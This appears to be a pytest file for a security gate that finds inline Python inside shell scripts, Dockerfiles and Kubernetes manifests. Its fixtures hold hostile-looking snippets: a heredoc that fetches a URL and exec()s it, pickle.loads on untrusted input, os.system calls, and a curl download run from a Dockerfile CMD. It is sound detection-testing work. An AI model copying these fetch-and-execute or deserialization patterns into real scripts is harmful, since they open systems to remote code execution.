"""Python written inside shell (session 27 red team): `python -c "..."` and a
heredoc fed to `python -` in launchers, Dockerfiles and Makefiles are scanned
by the Python rules as a companion of the file, on their own lines. One change
with real git, the real CLI and real semgrep; benign look-alikes beside them."""

from __future__ import annotations

from typing import Any

import pytest

from traingate.checks.semgrep.inlinepy import inline_python

from .conftest import feature_repo, gate_report

BASE = {
    "scripts/old.sh": "#!/bin/bash\npython -c 'import pickle,sys; pickle.loads(sys.stdin.buffer.read())'\n",
}
HEAD = {
    "scripts/old.sh": BASE["scripts/old.sh"] + "echo done\n",
    "scripts/dash_c.sh": (
        "#!/bin/bash\nset -e\n"
        'python3 -u -c "import pickle,base64,sys; pickle.loads(base64.b64decode(sys.argv[1]))" "$P"\n'
    ),
    "scripts/heredoc.sh": (
        "#!/bin/bash\npython - \"$URL\" <<'PY'\nimport sys, urllib.request as u\n"
        "exec(u.urlopen(sys.argv[1]).read())\nPY\n"
    ),
    "scripts/ansi.sh": "#!/bin/bash\npython -c $'import os\\nos.system(\"id\")'\n",
    "docker/Dockerfile": (
        "FROM python:3.11\n"
        'CMD ["python", "-c", "import os; os.system(\'curl -s x.dev/a -o /tmp/a\')"]\n'
    ),
    "k8s/job.yaml": (
        "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n"
        "      - name: warmup\n"
        '        command: ["python3", "-u", "-c", "import os; os.system(\'id\')"]\n'
        "        args:\n          - python\n          - -c\n          - |\n"
        "            import pickle, sys\n            pickle.loads(sys.stdin.buffer.read())\n"
        "      - name: ok\n"
        '        command: ["python", "-c", "import torch; print(torch.__version__)"]\n'
    ),
    "ok/check_env.sh": (
        "#!/bin/bash\n"
        "python -c 'import torch; print(torch.__version__, torch.cuda.is_available())'\n"
        'python3 -c "import sys; exit(0 if sys.version_info >= (3, 9) else 1)"\n'
        "python train.py --config configs/a.yaml <<EOF\nos.system('not code: the script reads it')\nEOF\n"
        'python -c "print($X + ${Y})"\n'
        "python -c 'def broken('\n"
    ),
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("inlinepy")
    return gate_report(feature_repo(root, BASE, HEAD), root / "report.json")


def _found(report: dict[str, Any], path: str) -> set[tuple[str, int | None]]:
    return {(f["rule_id"], f["line"]) for f in report["findings"] if f["path"] == path}


@pytest.mark.parametrize(
    ("path", "rule", "line"),
    [
        ("scripts/dash_c.sh", "deser-pickle-load", 3),
        ("scripts/heredoc.sh", "exec-dynamic-code", 4),
        ("scripts/ansi.sh", "exec-os-command", 2),  # one line: its statements joined
        ("docker/Dockerfile", "exec-os-command", 2),
        ("k8s/job.yaml", "exec-os-command", 8),
        ("k8s/job.yaml", "deser-pickle-load", 14),
    ],
)
def test_inline_python_is_judged_on_its_line(
    report: dict[str, Any], path: str, rule: str, line: int
) -> None:
    assert (rule, line) in _found(report, path)


def test_harmless_and_unparseable_inline_python_passes(report: dict[str, Any]) -> None:
    assert _found(report, "ok/check_env.sh") == set()


def test_an_unchanged_inline_load_is_not_new(report: dict[str, Any]) -> None:
    assert _found(report, "scripts/old.sh") == set()


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ('python -c "a = 1"\n', ["a = 1"]),
        ("  /usr/bin/python3.11 -X dev -c 'b = 2'\n", ["b = 2"]),
        ("python3 <<-EOF\n\tc = 3\n\tEOF\n", ["", "c = 3"]),
        ('python -c "print(\\"q\\")"\n', ['print("q")']),
        ("python script.py <<EOF\nd = 4\nEOF\n", None),  # the script's stdin
        ("python -m pip install -c constraints.txt x\n", None),
        ("echo python -c\n", None),
        # session 27 review: an option cluster ending in c, the interpreter in a
        # variable, a here-string and a word piped in are programs too
        ('python -uc "e = 5"\n', ["e = 5"]),
        ('"$PYTHON" -c "f = 6"\n', ["f = 6"]),
        ("${PYTHON_BIN:-python3} -c 'g = 7'\n", ["g = 7"]),
        ("python3 <<< 'h = 8'\n", ["h = 8"]),
        ("echo 'i = 9' | python3 -\n", ["i = 9"]),
        ("echo 'not code' | python3 train.py\n", None),
    ],
)
def test_extraction(text: str, lines: list[str] | None) -> None:
    got = inline_python(text)
    if lines is None:
        assert got is None
    else:
        assert got is not None and got.split("\n")[: len(lines)] == lines


def test_a_commented_out_line_runs_nothing() -> None:
    assert inline_python("# python -c \"import os; os.system('id')\"\n") is None
    assert inline_python("  # python - <<EOF\nimport os\nEOF\n") is None


def test_a_heredoc_without_its_end_line_runs_to_the_end_of_the_file() -> None:
    # bash warns ("here-document delimited by end-of-file") and runs it anyway
    got = inline_python("#!/bin/bash\npython3 - <<'PY'\nimport os\nos.system('id')\n")
    assert got is not None and got.split("\n")[2:4] == ["import os", "os.system('id')"]


@pytest.mark.parametrize(
    ("script", "program"),
    [
        # session 28 red team: what printf / echo -e writes is the program
        ("printf '\\x69mport os\\nos.system(1)\\n' | python3 -", "import os; os.system(1)"),
        ("printf '%s\\n' 'import os' 'os.system(1)' | python", "import os; os.system(1)"),
        ("printf '%b' 'import os\\nos.system(1)' | python", "import os; os.system(1)"),
        ("echo -e 'import os\\x3b os.system(1)' | python", "import os; os.system(1)"),
        ("echo 'import os\\nos.system(1)' | python", "import os; os.system(1)"),  # dash's echo
        ("printf 'import os\\nos.system(1)' \\\n  | python3 -", "import os; os.system(1)"),
        ("printf 'import os\\nos.system(1)' |\n  python3", "import os; os.system(1)"),
        # a directive the gate does not compute, and printf to a file: nothing lifted
        ("printf '%d\\n' 3 | python", None),
        ("printf 'import os\\n' > /tmp/x.py", None),
    ],
)
def test_printed_programs(script: str, program: str | None) -> None:
    got = inline_python("#!/bin/bash\n" + script + "\necho done\n")
    lines = [x for x in (got or "").split("\n") if x.strip()]
    assert lines == ([program] if program else [])
